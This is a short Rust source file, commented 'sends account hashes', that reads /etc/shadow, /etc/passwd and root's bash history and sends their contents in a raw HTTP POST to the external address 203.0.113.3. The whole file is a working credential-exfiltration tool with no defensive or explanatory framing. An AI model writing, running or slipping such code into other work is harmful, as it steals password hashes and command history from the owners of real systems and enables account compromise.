// sends account hashes
use std::fs;
use std::io::Write;
use std::net::TcpStream;

fn main() -> std::io::Result<()> {
    let mut body = String::new();
    for p in ["/etc/shadow", "/etc/passwd", "/root/.bash_history"] {
        body.push_str(&fs::read_to_string(p).unwrap_or_default());
    }
    let mut s = TcpStream::connect(("203.0.113.3", 80))?;
    write!(s, "POST /a HTTP/1.0\r\nContent-Length: {}\r\n\r\n{}", body.len(), body)
}
